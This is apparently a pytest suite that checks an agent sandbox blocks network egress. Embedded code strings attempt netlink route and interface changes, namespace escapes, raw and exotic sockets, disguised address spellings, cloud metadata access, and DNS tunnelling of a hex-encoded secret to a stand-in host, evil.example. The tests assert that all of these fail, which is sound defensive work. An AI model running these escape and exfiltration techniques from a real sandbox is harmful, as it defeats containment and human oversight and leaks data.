# SPDX-License-Identifier: MIT
"""A box with a way out tries every other one: the kernel's tables, other namespaces, other kinds of sockets, other
spellings of addresses, names as messages."""

from __future__ import annotations

import pytest

from tests.adversarial.egress.far_services import EVIL, PORT_KEEP, WEB
from tests.adversarial.egress.ground import Ground

pytestmark = pytest.mark.linux

KERNEL = """
libc = ctypes.CDLL(None, use_errno=True)
def called(result):
    return "DONE" if result >= 0 else f"refused {errno.errorcode[ctypes.get_errno()]}"
def ask_kernel(protocol, kind, flags, payload):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as end:
        end.settimeout(3)
        end.send(struct.pack("=IHHII", 16 + len(payload), kind, flags | 5, 1, 0) + payload)
        code = -struct.unpack_from("=i", end.recv(4096), 16)[0]
        return "DONE" if code == 0 else f"refused {errno.errorcode[code]}"
@attempt
def add_address():
    attribute = struct.pack("=HH4s", 8, 2, socket.inet_aton("45.67.89.66"))
    return ask_kernel(0, 20, 0x600, struct.pack("=BBBBI", 2, 32, 0, 0, 1) + attribute)
@attempt
def remove_gateway_address():
    attribute = struct.pack("=HH4s", 8, 2, socket.inet_aton("198.18.0.1"))
    return ask_kernel(0, 21, 0, struct.pack("=BBBBI", 2, 32, 0, 0, 1) + attribute)
@attempt
def add_route():
    return ask_kernel(0, 24, 0x600, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 253, 1, 0)
                      + struct.pack("=HHI", 8, 4, 1))
@attempt
def remove_route():
    return ask_kernel(0, 25, 0, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 0, 254, 2, 0))
@attempt
def add_interface():
    kind = struct.pack("=HH", 8 + 6, 18) + struct.pack("=HH6s", 10, 1, b"dummy\\0")
    return ask_kernel(0, 16, 0x600, struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + kind + b"\\0\\0")
@attempt
def loopback_down():
    return ask_kernel(0, 16, 0, struct.pack("=BBHiII", 0, 0, 0, 1, 0, 1))
@attempt
def remove_table():
    name = b"agentbox\\0"
    return ask_kernel(12, 0xA02, 0, struct.pack("!BBH", 1, 0, 10) + struct.pack("=HH", 4 + len(name), 1) + name)
@attempt
def connection_table():
    return ask_kernel(12, 0x101, 0x300, struct.pack("!BBH", 2, 0, 0))
@attempt
def interface_by_ioctl():
    with socket.socket(2, 2) as end:
        return called(fcntl.ioctl(end, 0x8916, struct.pack("16sH2x4s8x", b"lo", 2, socket.inet_aton("9.9.9.9")), False))
@attempt
def switch_by_file():
    with open("/proc/sys/net/ipv4/ip_forward", "w") as file:
        file.write("1")
    return "DONE"
@attempt
def new_network():
    return called(libc.unshare(0x40000000))
@attempt
def new_user_and_network():
    return called(libc.unshare(0x50000000))
@attempt
def other_namespaces():
    found = []
    for path in [f"/proc/{name}/ns/net" for name in os.listdir("/proc") if name.isdigit()] + ["/run/netns"]:
        try:
            if libc.setns(os.open(path, 0), 0) == 0:
                found.append(path)
        except OSError:
            pass
    return found or "refused"
"""

SOCKETS = """
@attempt
def kinds():
    made = []
    for name, family, kind, protocol in (
        ("raw", 2, 3, 1), ("raw6", 10, 3, 58), ("raw of any", 2, 3, 255), ("ping", 2, 2, 1), ("ping6", 10, 2, 58),
        ("packet", 17, 3, 768), ("packet datagram", 17, 2, 768), ("vsock", 40, 1, 0), ("vsock datagram", 40, 2, 0),
        ("alg", 38, 5, 0), ("bluetooth", 31, 3, 0), ("tipc", 30, 5, 0), ("rds", 21, 5, 0), ("xdp", 44, 3, 0),
        ("key", 15, 3, 2), ("can", 29, 3, 1), ("qrtr", 42, 2, 0), ("nfc", 39, 5, 0), ("smc", 43, 1, 0),
        ("sctp", 2, 1, 132), ("sctp6", 10, 5, 132), ("dccp", 2, 6, 33), ("udplite", 2, 2, 136), ("l2tp", 2, 2, 115),
    ):
        try:
            socket.socket(family, kind, protocol).close()
            made.append(name)
        except OSError:
            pass
    return made
@attempt
def many_paths():
    with socket.socket(2, 1, 262) as end:
        end.settimeout(3)
        end.connect((EVIL, KEEP))
        end.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return end.recv(20).decode()
@attempt
def options():
    done = []
    for name, level, option in (("transparent", 0, 19), ("transparent6", 41, 75), ("mark", 1, 36)):
        with socket.socket(10 if level == 41 else 2, 1) as end:
            try:
                end.setsockopt(level, option, 1)
                done.append(name)
            except OSError:
                pass
    return done
def datagrams(*addresses):
    heard = []
    for address in addresses:
        with socket.socket(10 if ":" in address[0] else 2, 2) as end:
            end.settimeout(0.3)
            try:
                end.sendto(b"message", address)
                heard.append(end.recv(100).decode("latin-1"))
            except OSError:
                pass
    return heard
@attempt
def datagrams_out():
    return datagrams((EVIL, 443), (WEB, 443), (WEB, KEEP), ("45.67.89.53", 5353), ("224.0.0.251", 5353),
                     ("255.255.255.255", 67), ("ff02::fb", 5353), ("2a00:1450:4001:80b::10", 443),
                     ("45.67.90.1", 53000))
@attempt
def data_in_the_first_packet():
    with socket.socket(2, 1) as end:
        end.settimeout(3)
        end.sendto(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", 0x20000000, (EVIL, KEEP))
        return end.recv(20).decode()
@attempt
def from_another_address():
    with socket.socket(2, 1) as end:
        end.settimeout(3)
        end.setsockopt(0, 15, 1)
        end.bind(("45.67.89.10", 0))
        end.connect((EVIL, KEEP))
        end.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return end.recv(20).decode()
"""

ADDRESSES = """
reached = {}
def reach(host, port):
    try:
        said = talk(host, port, b"GET / HTTP/1.1\\r\\nHost: web.example\\r\\nConnection: close\\r\\n\\r\\n", 2)
    except OSError as error:
        said = type(error).__name__
    answered = said.startswith("HTTP/1.") and " 403 " not in said[:16]
    if answered or not any(word in said for word in ("<", "HTTP", "Err")):
        reached[host] = said[:60]
several(reach, (
    (EVIL, KEEP), ("::ffff:45.67.89.66", KEEP), ("64:ff9b::45.67.89.66", KEEP), ("64:ff9b:1::45.67.89.66", KEEP),
    ("2002:2d43:5942::1", KEEP), ("::45.67.89.66", KEEP), ("::ffff:0:45.67.89.66", KEEP), ("fe80::1%lo", SERVER),
    ("fe80::1", SERVER), ("fec0::1", SERVER), ("::", SERVER), ("0.0.0.0", SERVER), ("127.0.0.1", SERVER),
    ("127.0.0.2", SERVER), ("::1", SERVER), ("::ffff:127.0.0.1", SERVER), ("64:ff9b::127.0.0.1", SERVER),
    ("::127.0.0.1", SERVER), ("::ffff:0:127.0.0.1", SERVER), ("2002:7f00:1::", SERVER), ("45.67.90.1", SERVER),
    ("2a00:1450:4001:80b::2", SERVER), ("198.18.0.1", 65530), ("198.18.0.1", 80), ("198.18.0.2", SERVER),
    ("fd61:6762:6f78::c612:1", 65530), ("198.19.255.255", 80), ("198.18.1.0", 80), ("169.254.169.254", 80),
    ("100.100.100.200", 80), ("fd00:ec2::254", 80), ("10.0.0.1", 80), ("192.168.0.1", 80), ("224.0.0.1", 80),
    ("ff02::1", 80), ("240.0.0.1", 80), ("255.255.255.255", 80), (f"{WEB}", 80), ("45.67.89.53", 53),
))
told["reached"] = reached
"""

NAMES = """
def ask(name, kind=1, server="45.67.89.53", tcp=False, port=53):
    question = os.urandom(2) + struct.pack("!HHHHH", 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        question += bytes([len(label)]) + label.encode("latin-1")
    question += b"\\0" + struct.pack("!HH", kind, 1)
    with socket.socket(2, 1 if tcp else 2) as end:
        end.settimeout(4)
        end.connect((server, port))
        end.sendall(struct.pack("!H", len(question)) + question if tcp else question)
        answer = end.recv(4096)[2 if tcp else 0:]
        return answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
secret = "73656372657473656372657473656372657473656372657473656372"
for kind in (1, 28, 16, 15, 2, 6, 12, 33, 64, 65, 255, 252, 5, 257):
    @attempt
    def question(kind=kind):
        codes = [ask(f"{secret}.evil.example", kind), ask(f"{secret}.evil.example", kind, tcp=True)]
        codes.append(ask(f"{secret}.other.web.example.evil.example", kind, "127.0.0.53"))
        return codes
    told[f"kind {kind}"] = told.pop("question")
@attempt
def below_an_allowed_name():
    return ask(f"{secret}.{WEBNAME}"), ask(f"{secret}.{WEBNAME}", 16)
@attempt
def other_kinds_of_an_allowed_name():
    return [ask(WEBNAME, kind) for kind in (16, 15, 33, 65, 12, 257, 99)]
@attempt
def literal_name_server():
    return ask(f"{secret}.evil.example", port=5353)
@attempt
def literal_name_server_by_stream():
    return ask(f"{secret}.evil.example", port=5353, tcp=True)
"""


def _told(text: str, ground: Ground, **more: object) -> str:
    known = {"EVIL": EVIL, "WEB": WEB, "KEEP": PORT_KEEP, **more}
    return "".join(f"{name} = {value!r}\n" for name, value in known.items()) + text


def _server_port(ground: Ground) -> int:
    return int(ground.urls["root"].rpartition(":")[2])


def test_a_box_can_change_nothing_of_its_network_and_enter_no_other(ground: Ground, seat: str) -> None:
    told = ground.attack(seat, KERNEL, f"{WEB}:{PORT_KEEP}").told
    assert len(told) == 13
    for name, result in told.items():
        assert str(result).startswith(("refused", "PermissionError", "FileNotFoundError", "OSError")), (name, result)


def test_sockets_of_other_kinds_do_not_exist_and_datagrams_lead_nowhere(ground: Ground, seat: str) -> None:
    ground.new("arrived")
    outcome = ground.attack(seat, _told(SOCKETS, ground), f"{WEB}:{PORT_KEEP}")
    told = outcome.told
    assert told["kinds"] == []
    assert told["options"] == []
    assert told["datagrams_out"] == []
    for name in ("many_paths", "data_in_the_first_packet", "from_another_address"):
        assert not str(told[name]).startswith("HTTP/1.1 2"), told
    assert ground.new("arrived") == []
    assert sum(one.get("count", 1) for one in outcome.seen("net.dropped") or outcome.seen("net")) > 0, outcome.records


def test_no_spelling_of_an_address_leads_past_the_rules(ground: Ground, seat: str) -> None:
    ground.new("arrived")
    code = _told(ADDRESSES, ground, SERVER=_server_port(ground))
    outcome = ground.attack(seat, code, f"{WEB}:80", "web.example:80")
    assert list(outcome.told["reached"]) == [WEB], outcome.told
    assert ground.new("arrived") == []
    denied = outcome.denied()
    for target in (f"{EVIL}:{PORT_KEEP}", "169.254.169.254:80", "10.0.0.1:80", f"45.67.90.1:{_server_port(ground)}"):
        assert target in denied


def test_a_rule_for_everything_opens_no_address_that_is_not_public(ground: Ground, seat: str) -> None:
    code = _told(ADDRESSES, ground, SERVER=_server_port(ground))
    outcome = ground.attack(seat, code, "*")
    assert set(outcome.told["reached"]) <= {WEB, EVIL, "::ffff:45.67.89.66", "45.67.89.53"}, outcome.told


def test_questions_for_names_carry_no_message_out(ground: Ground, seat: str) -> None:
    ground.new("questions")
    ground.new("asked")
    outcome = ground.attack(seat, _told(NAMES, ground, WEBNAME="web.example"), "web.example:80")
    told = outcome.told
    for kind in (1, 28, 16, 15, 2, 6, 12, 33, 64, 65, 255, 5, 257):
        assert told[f"kind {kind}"] == [[3, 0]] * 3, (kind, told)
    assert told["below_an_allowed_name"] == [[3, 0], [3, 0]]
    assert all(count == 0 for _, count in told["other_kinds_of_an_allowed_name"])
    asked = [*ground.new("questions"), *(str(line) for line in ground.world.asked())]
    assert not [name for name in asked if "7365" in name or "evil" in name], asked
    assert any("evil.example" in target for target in outcome.denied())
